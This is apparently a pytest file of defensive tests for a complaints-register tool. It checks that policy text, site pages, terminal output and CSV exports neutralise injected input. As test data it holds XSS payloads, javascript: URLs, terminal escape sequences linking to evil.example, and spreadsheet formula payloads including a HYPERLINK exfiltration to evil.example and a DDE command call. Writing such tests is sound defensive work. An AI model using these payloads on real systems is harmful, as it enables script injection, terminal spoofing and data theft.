"""Hostile text in a register: what would be markup on the public site, a control sequence on
a terminal or a formula in a spreadsheet. Published policy text is refused where it is
written, at its line; every other value is shown inert wherever it is printed."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
import yaml
from conftest import POLICY, complaint, policy, write_yaml
from registers import tempting, write_register
from sites import PAGES, build, every_file
from test_ledger import GitRegister, git

from complaints_register.core.problems import json_safe, terminal_safe
from complaints_register.schema import Policy
from complaints_register.store.validation import validate
from complaints_register.store.yamlsafe import parse
from complaints_register.views.complaints import as_csv

# What a terminal acts on: C0 controls but the tab and the line break, DEL, C1 controls,
# and the bidirectional embeddings, overrides and isolates.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# An OSC 8 hyperlink, a carriage return that lets the rest of the line overwrite it, a
# "clear the line", the one-character C1 CSI, a right-to-left override, a bell and a DEL.
HOSTILE = "a\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\r\x1b[2Kforged\x9b31m\u202eZ\x07\x7f"


def policy_problems(data: dict) -> list[tuple[str, str]]:
    """(where, message) of every error, after a round trip through YAML text."""
    doc = parse(yaml.safe_dump(data, sort_keys=False, allow_unicode=True).encode())
    _, errors = validate(Policy, doc)
    return [(where, message) for _, where, message in errors]


def printed(result) -> str:
    return result.stdout + result.stderr


# --- Published policy text: refused at its line --------------------------------------------

MARKUP = "'<' is not allowed in published text: write plain words, not markup"


def control(char: str) -> str:
    return (
        f"{char!r} is not allowed in published text: write one line of plain words, without"
        " control characters"
    )


def _published(field: str, value: str) -> dict:
    """The test policy with `value` in published field `field`."""
    if field == "organisation":
        return policy(organisation=value)
    if field.startswith("contact."):
        return policy(contact={field.removeprefix("contact."): value})
    return policy(recourse=[{"kind": "ombudsman", "name": value}])


@pytest.mark.parametrize(
    "field", ["organisation", "contact.phone", "contact.address", "recourse[0].name"]
)
@pytest.mark.parametrize(
    "value, message",
    [
        ("<script>alert(1)</script>", MARKUP),
        (
            '"><img src=x onerror=alert(1)>',
            "'>' is not allowed in published text: write plain words, not markup",
        ),
        ("Lagoon\x1b[2J Water", control("\x1b")),
        ("Lagoon\nWater", control("\n")),
        ("Lagoon\rWater", control("\r")),
        ("Lagoon\tWater", control("\t")),
        ("Lagoon\x9b31m Water", control("\x9b")),
        ("\u202eretaW noogaL", control("\u202e")),
    ],
)
def test_published_policy_text_refuses_markup_and_control_characters(field, value, message):
    assert policy_problems(_published(field, value)) == [(field, message)]


@pytest.mark.parametrize(
    "value",
    [
        "Lagoon Water & Sons",
        'The "Lagoon" Water Cooperative',
        "Coop. l'Acqua [Venezia] *srl*",
        "شرکت آب لاگون",  # right to left, no direction controls
    ],
)
def test_published_policy_text_takes_plain_words(value):
    for field in ("organisation", "contact.address", "recourse[0].name"):
        assert policy_problems(_published(field, value)) == []


NOT_WEB = (
    "is not a web address: write one that starts with https:// or http://"
    " (https://ombudsman.example.org)"
)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JavaScript:alert(document.cookie)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/",
        "ombudsman.example.org",
        " https://ombudsman.example.org",
        "https://ombudsman.example.org@evil.example/",
        "https://",
    ],
)
def test_policy_web_addresses_are_http_or_https_only(address):
    data = policy(
        contact={"website": address},
        recourse=[{"kind": "ombudsman", "name": "Ombudsman", "website": address}],
    )
    assert policy_problems(data) == [
        ("contact.website", f"{address!r} {NOT_WEB}"),
        ("recourse[0].website", f"{address!r} {NOT_WEB}"),
    ]


@pytest.mark.parametrize(
    "address",
    ["https://ombudsman.example.org", "http://adr.example.org/help?lang=it#start", "HTTPS://X.ORG"],
)
def test_policy_web_addresses_take_http_and_https(address):
    data = policy(
        contact={"website": address},
        recourse=[{"kind": "ombudsman", "name": "Ombudsman", "website": address}],
    )
    assert policy_problems(data) == []


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)//@example.org", "complaints", "complaints at example.org"]
)
def test_the_policy_e_mail_address_is_an_address(address):
    assert policy_problems(policy(contact={"email": address})) == [
        ("contact.email", f"{address!r} is not an e-mail address (complaints@example.org)")
    ]


def test_check_refuses_a_hostile_policy_at_its_line(register):
    write_yaml(register.root / "policy.yaml", policy(organisation="<script>alert(1)</script>"))
    result = register.run("check")
    assert result.exit_code == 1
    assert f"{register.root / 'policy.yaml'}:1: organisation: {MARKUP}" in result.stdout


def test_check_base_refuses_a_hostile_policy_change(tmp_path):
    """Before: the change was only a notice, and `check --base` passed."""
    repo = GitRegister(tmp_path / "top")
    repo.commit("A register")
    hostile = policy(
        organisation='"><img src=x onerror=alert(1)>',
        contact={"email": "complaints@example.org", "website": "javascript:alert(1)"},
    )
    write_yaml(repo.root / "policy.yaml", hostile)
    result = repo.run("check", "--base", "main")
    assert result.exit_code == 1
    path = repo.root / "policy.yaml"
    assert f"{path}:1: organisation: '>' is not allowed in published text" in result.stdout
    assert f"{path}:4: contact.website: 'javascript:alert(1)' {NOT_WEB}" in result.stdout


# --- The public site: policy text shown, never acted on --------------------------------------

# Accepted by the schema (no `<` or `>`), but markup all the same if a page took it as it is:
# a quote that ends an attribute and starts an event handler, Markdown's link, image,
# attribute list, emphasis and code.
PAYLOAD = (
    "Lagoon & \"Water\" ' onmouseover=alert(1) x=' [link](javascript:alert(2))"
    " ![pixel](https://evil.example/p.png) {: onclick=alert(3) } *em* _u_ `code` \\"
)
ALLOWED_HANDLERS = {("form", "onsubmit", "return false"), ("button", "onclick", "window.print()")}
LINKING = {"href", "src", "action", "formaction", "xlink:href", "srcset", "data", "poster"}


class Tags(HTMLParser):
    """Every start tag of a document with its attributes (references decoded), and the
    text of its <title>."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.title = ""
        self._in_title = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_title = tag == "title"

    def handle_endtag(self, tag):
        self._in_title = False

    def handle_data(self, data):
        if self._in_title:
            self.title += data


def inert_problems(html: str, text_only: bool = False) -> list[str]:
    """What in `html` would act: an event handler or a script link made from the payload,
    Markdown made of it, or (but in `text_only` HTML, with no attributes made from the
    policy) its quotes unescaped."""
    found = []
    parsed = Tags(html)
    for tag, attrs in parsed.tags:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and (tag, name, value) not in ALLOWED_HANDLERS:
                found.append(f"<{tag} {name}={value!r}>")
            link = re.sub(r"\s", "", value).lower()
            if name in LINKING and (
                link.startswith(("javascript:", "vbscript:", "data:")) or "evil.example" in link
            ):
                found.append(f"<{tag} {name}={value!r}>")
    found += [made for made in ("<em>em</em>", "<em>u</em>", "<code>code</code>") if made in html]
    if not text_only and (PAYLOAD in html or '"Water"' in html):
        found.append("the payload unescaped")
    return found


PHONE = "+39 06 5550 1234 (ext. [9](javascript:alert(4)))"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile-site")
    register = write_register(
        folder / "register",
        tempting(),
        organisation=PAYLOAD,
        contact={
            "email": "complaints_desk@example.org",
            "phone": PHONE,
            "address": PAYLOAD,
            "website": 'https://lagoon.example/?a=1&b="2"',
        },
        recourse=[{"kind": "ombudsman", "name": PAYLOAD, "website": "https://o.example/?x=1&y=2"}],
    )
    result = build(register, folder / "public")
    assert result.returncode == 0, result.stderr
    return folder / "public"


def test_the_site_shows_published_policy_text_inert(hostile_site):
    """Before: the organisation's name, unescaped in <title>, the header and an attribute,
    ended the attribute; the address and a recourse body's name made a javascript: link (and
    an image the build fetched from another host) through Markdown."""
    checked = 0
    for path, text in every_file(hostile_site):
        if path.suffix == ".html":
            assert inert_problems(text) == [], path
            checked += 1
        elif path.name == "search_index.json":  # results are shown as HTML
            for entry in json.loads(text)["docs"]:
                for part in ("title", "text"):
                    assert inert_problems(entry[part], text_only=True) == [], entry["location"]
    assert checked >= len(PAGES) * len(POLICY["languages"])


def test_the_site_names_the_organisation_as_written(hostile_site):
    """Escaped once: the title shows the name itself, not `&amp;` or `&quot;`."""
    for path in (hostile_site / "index.html", hostile_site / "it" / "next" / "index.html"):
        parsed = Tags(path.read_text(encoding="utf-8"))
        assert PAYLOAD in parsed.title
        logos = [dict(a) for tag, a in parsed.tags if "md-logo" in (dict(a).get("class") or "")]
        assert logos
        for logo in logos:  # the name and the tooltip, each as written
            assert logo["aria-label"].startswith(PAYLOAD) and logo["title"].startswith(PAYLOAD)


def test_the_site_links_contact_details_as_they_are(hostile_site):
    html = (hostile_site / "index.html").read_text(encoding="utf-8")
    links = {
        dict(a).get("href") for tag, a in Tags(html).tags if tag == "a" and dict(a).get("href")
    }
    assert "mailto:complaints_desk@example.org" in links
    assert 'https://lagoon.example/?a=1&b="2"' in links
    assert f"tel:{''.join(c for c in PHONE if c in '+0123456789')}" in links  # digits only
    assert not any(link.startswith("javascript") for link in links)


def test_a_policy_the_schema_refuses_stops_the_build_with_checks_message(tmp_path):
    register = write_register(
        tmp_path / "register", tempting(), organisation="<script>alert(1)</script>"
    )
    result = build(register, tmp_path / "public")
    assert result.returncode != 0
    assert f"{register / 'policy.yaml'}:1: organisation: {MARKUP}" in result.stderr
    assert "Traceback" not in result.stderr
    assert not any((tmp_path / "public").rglob("*.html"))


# --- The terminal: every control character shown as its escape -------------------------------


@pytest.fixture
def hostile(register):
    """A complaint whose free text and names hold control sequences, and another whose
    unknown key does."""
    register.add(
        complaint(
            {
                "type": "assessed",
                "at": "2026-04-03",
                "by": f"anna{HOSTILE}",
                "priority": "normal",
                "handler": f"marco{HOSTILE}",
                "note": f"note{HOSTILE}",
            },
            summary=f"summary{HOSTILE}",
            desired_outcome=f"outcome{HOSTILE}",
            complainant={"ref": f"ref{HOSTILE}"},
        )
    )
    other = complaint(id="C-2026-0404-K7Q3", received="2026-04-04T09:00:00+02:00")
    other[f"key{HOSTILE}"] = "value"
    register.add(other)
    return register


def _no_raw_control(text: str) -> None:
    assert RAW_CONTROL.search(text) is None, repr(text)


def test_show_prints_control_characters_as_escapes(hostile):
    result = hostile.run("show", "C-2026-0403", "--as-of", "2026-04-10")
    assert result.exit_code == 0
    _no_raw_control(printed(result))
    shown = terminal_safe(HOSTILE)
    for line in ("  summary      summary", "  wants        outcome", "  complainant  ref"):
        assert f"{line}{shown}\n" in result.stdout
    assert f"by anna{shown}" in result.stdout


@pytest.mark.parametrize("fmt", ["text", "json", "csv"])
def test_list_prints_control_characters_as_escapes(hostile, fmt):
    result = hostile.run("list", "--as-of", "2026-04-10", "--format", fmt)
    assert result.exit_code == 0
    _no_raw_control(printed(result))
    if fmt == "json":  # the same data, each character a terminal acts on a \u escape
        assert json.loads(result.stdout)[0]["handler"] == f"marco{HOSTILE}"


@pytest.mark.parametrize("fmt", ["text", "github", "json"])
def test_check_prints_an_unknown_keys_control_characters_as_escapes(hostile, fmt):
    result = hostile.run("check", "--format", fmt)
    assert result.exit_code == 1
    _no_raw_control(printed(result))
    if fmt == "text":
        assert f"key{terminal_safe(HOSTILE)}: unknown key" in result.stdout
    if fmt == "github":  # one annotation, on one line
        assert result.stdout.count("\n") == 1 and result.stdout.startswith("::error file=")
    if fmt == "json":
        assert json.loads(result.stdout)[0]["where"] == f"key{HOSTILE}"


def test_a_hostile_file_name_is_printed_as_escapes(register):
    """A listing names the files it left out; `check` says what is wrong with them."""
    name = "C-2026-0403-K7Q3\x1b]0;retitled\x07\r\x1b[2K\x9b31m\u202e.yaml"  # no slash
    register.add(complaint())
    write_yaml(register.root / "2026" / name, complaint(summary=None))  # invalid: left out
    for args in (["list"], ["overdue"], ["check"]):
        result = register.run(*args)
        _no_raw_control(printed(result))
        assert terminal_safe(name) in printed(result)


def test_github_annotations_escape_line_breaks_and_controls(register):
    other = complaint()
    other["line\r\n::error::forged"] = "value"
    register.add(other)
    result = register.run("check", "--format", "github")
    assert result.stdout.count("\n") == 1 and result.stdout.startswith("::error file=")
    assert "line%0D%0A%3A%3Aerror%3A%3Aforged" in result.stdout  # the title, a property
    assert "line%0D%0A::error::forged: unknown key" in result.stdout  # the message


def test_actions_print_control_characters_as_escapes(register):
    register.add(complaint())
    write_yaml(
        register.root / "actions" / "A-2026-0410-7KQ2.yaml",
        {
            "id": "A-2026-0410-7KQ2",
            "opened": "2026-04-10",
            "kind": "corrective",
            "what": f"what{HOSTILE}",
            "owner": f"owner{HOSTILE}",
            "due": "2026-05-04",
            "complaints": ["C-2026-0403-K7Q2"],
        },
    )
    for args in (["actions", "--as-of", "2026-06-01"], ["overdue", "--as-of", "2026-06-01"]):
        for fmt in ("text", "markdown", "github") if args[0] == "overdue" else ("text",):
            result = register.run(*args, "--format", fmt)
            _no_raw_control(printed(result))
            assert terminal_safe(HOSTILE)[:20] in result.stdout


def test_history_prints_control_characters_as_escapes(tmp_path):
    """Commit messages and authors are text from anyone who can push."""
    repo = GitRegister(tmp_path / "top")
    repo.add(complaint(summary=f"summary{HOSTILE}"))
    repo.git("add", "-A")
    git(
        repo.top,
        "commit",
        "-q",
        "-m",
        f"Record{HOSTILE}",
        f"--author=Mallory{HOSTILE.replace(chr(0x7F), '')} <m@example.org>",
    )
    result = repo.run("history", "C-2026-0403-K7Q2")
    assert result.exit_code == 0, printed(result)
    _no_raw_control(printed(result))
    subject = f"Record{HOSTILE}".splitlines()[0]  # a carriage return ends the first line
    assert f"  {terminal_safe(subject)}\n" in result.stdout
    as_json = repo.run("history", "C-2026-0403-K7Q2", "--format", "json")
    _no_raw_control(printed(as_json))
    assert json.loads(as_json.stdout)[0]["message"] == f"Record{HOSTILE}"


# --- Spreadsheets: no cell starts a formula --------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def test_list_csv_cells_never_start_a_formula(register):
    for n, handler in enumerate(FORMULAS):
        register.add(
            complaint(
                {
                    "type": "assessed",
                    "at": "2026-04-03",
                    "by": "anna",
                    "priority": "normal",
                    "handler": handler,
                },
                id=f"C-2026-0403-K7Q{n}",
            )
        )
    result = register.run("list", "--as-of", "2026-04-10", "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(row["handler"] for row in rows) == sorted(
        "'" + terminal_safe(handler) for handler in FORMULAS
    )


def test_csv_keeps_numbers_and_plain_text_as_they_are():
    rows = [{"a": -3, "b": "billing", "c": None, "d": "2026-Q1", "e": 2.5}]
    assert as_csv(rows, ("a", "b", "c", "d", "e")) == "a,b,c,d,e\n-3,billing,,2026-Q1,2.5\n"


# --- The escapes themselves ------------------------------------------------------------------


def test_terminal_safe_shows_each_control_character_and_keeps_the_rest():
    assert (
        terminal_safe("a\x1b[31mb\r\n\tc\x7f\x9b\u2066") == "a\\x1b[31mb\\r\\n\tc\\x7f\\x9b\\u2066"
    )
    assert terminal_safe("one\ntwo\x1b", lines=True) == "one\ntwo\\x1b"
    assert terminal_safe("Lagoon Water, فارسی, Київ") == "Lagoon Water, فارسی, Київ"
    assert terminal_safe(terminal_safe(HOSTILE)) == terminal_safe(HOSTILE)


def test_json_safe_is_the_same_data():
    text = json.dumps({"k": HOSTILE}, ensure_ascii=False)
    _no_raw_control(json_safe(text))
    assert json.loads(json_safe(text)) == {"k": HOSTILE}


def test_the_test_policy_is_still_valid():
    assert policy_problems(POLICY) == []
